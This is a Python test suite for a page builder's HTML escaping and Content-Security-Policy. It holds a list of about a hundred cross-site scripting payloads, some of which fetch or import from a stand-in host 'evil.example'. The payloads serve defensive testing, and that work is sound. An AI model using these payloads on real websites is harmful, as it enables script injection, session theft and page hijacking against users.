"""A hundred script injections, in every place where a page shows a stranger's words: all of them stay text."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streametrics.api.html import ATTRIBUTES, ELEMENTS, Element, Page, escaped

#: What could follow `=` or run by itself. The word in the middle marks it.
_CODE = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "fetch('//evil.example')", "import('//evil.example/x')")

INJECTIONS = [
    *(f"<script>{code}</script>" for code in _CODE),
    *(f"</title><script>{code}</script>" for code in _CODE),
    *(f"</p></main></body><script>{code}</script>" for code in _CODE),
    *(f"<img src=x onerror={code}>" for code in _CODE),
    *(f"<svg/onload={code}>" for code in _CODE),
    *(f'" onmouseover="{code}' for code in _CODE),
    *(f"' onfocus='{code}' autofocus='" for code in _CODE),
    *(f'"><script>{code}</script>' for code in _CODE),
    *(f"<a href=javascript:{code}>x</a>" for code in _CODE),
    *(f"<iframe srcdoc='<script>{code}</script>'>" for code in _CODE),
    *(f"<style>*{{background:url(javascript:{code})}}</style>" for code in _CODE),
    *(f"<math><mtext></form><form><mglyph><style></math><img src onerror={code}>" for code in _CODE),
    *(f"--><script>{code}</script><!--" for code in _CODE),
    *(f"]]><script>{code}</script>" for code in _CODE),
    *(f"<scr\x00ipt>{code}</scr\x00ipt>" for code in _CODE),
    *(f"<ScRiPt\n>{code}</sCrIpT\t>" for code in _CODE),
    *(f"<details open ontoggle={code}>" for code in _CODE),
    *(f"{{{{constructor.constructor('{code}')()}}}}" for code in _CODE),
    *(f"&lt;script&gt;{code}&lt;/script&gt;" for code in _CODE),
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src='javascript:alert(1)'>",
    "<form action='//evil.example'><button>send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1)>click",
    "<textarea></textarea><script>alert(1)</script>",
    "<plaintext>",
    "<!DOCTYPE html><html onload=alert(1)>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029",
    "＜script＞alert(1)＜/script＞",
    "`><script>alert(1)</script>",
    "\x1b[31m<script>alert(1)</script>",
]


class Reader(HTMLParser):
    """What a parser makes of a page: its elements with their attributes, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


def page(words: str) -> Page:
    """The same words in every place that takes a stranger's."""
    shown = Element("p", (words, Element("em", (words,))), {"title": words, "data-words": words})
    return Page(title=words, language=words, body=(Element("main", (shown,)),), script="let ours = 1", style="p{}")


def shown(words: str) -> str:
    return "".join(char if char in "\n\t" or ord(char) >= 0x20 else "\ufffd" for char in words).replace(
        "\x7f", "\ufffd"
    )


def stays_text(words: str) -> None:
    plain, forged = read(page("harmless").html()), read(page(words).html())
    # The same elements as of a harmless page, and the words whole in their places
    assert [name for name, _ in forged.elements] == [name for name, _ in plain.elements]
    assert forged.others == plain.others
    assert forged.text.count(shown(words)) >= 3
    for (name, attributes), (_, harmless) in zip(forged.elements, plain.elements, strict=True):
        assert attributes.keys() == harmless.keys(), name
        for attribute, value in attributes.items():
            if harmless[attribute] == "harmless":
                assert value == shown(words)


def test_there_are_a_hundred() -> None:
    assert len(set(INJECTIONS)) == len(INJECTIONS) >= 100


@pytest.mark.parametrize("words", INJECTIONS, ids=[ascii(words)[:50] for words in INJECTIONS])
def test_an_injection_stays_text(words: str) -> None:
    stays_text(words)


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\r"), min_size=1))
def test_any_words_stay_text(words: str) -> None:
    stays_text(words)


@given(st.text())
def test_nothing_that_could_begin_or_end_markup_is_left(words: str) -> None:
    assert not set(escaped(words)) & set("<>\"'`")


def test_markup_is_ours_alone() -> None:
    for name in ("script", "style", "iframe", "a", "img", "svg", "form", "p onclick=x", "P", ""):
        with pytest.raises(ValueError, match="element"):
            Element(name)
    for name in ("onclick", "style", "href", "src", "srcdoc", "data-", "data-x onclick", "data-x=", "ID"):
        with pytest.raises(ValueError, match="attribute"):
            Element("p", (), {name: "x"})
    assert not ELEMENTS & {"script", "style", "a", "img", "iframe", "form", "input", "object", "embed", "link", "base"}
    assert not {name for name in ATTRIBUTES if name.startswith("on")}


def test_a_script_of_ours_cannot_end_its_element() -> None:
    for code in ("let x = '</script>'", "<!-- <script>"):
        with pytest.raises(ValueError, match="end"):
            Page("t", (), script=code).html()


def test_the_policy_lets_nothing_run_but_the_pages_own_script() -> None:
    first, second = page("x"), page("x")
    policy = dict(part.split(" ", 1) for part in first.headers()["Content-Security-Policy"].split("; "))
    assert policy["default-src"] == policy["base-uri"] == policy["form-action"] == policy["frame-ancestors"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == f"'nonce-{first.nonce}'"
    assert "unsafe" not in str(policy) and "*" not in str(policy) and "http" not in str(policy)
    assert first.nonce != second.nonce and len(first.nonce) >= 22
    scripts = [attributes for name, attributes in read(first.html()).elements if name == "script"]
    assert scripts == [{"nonce": first.nonce}]
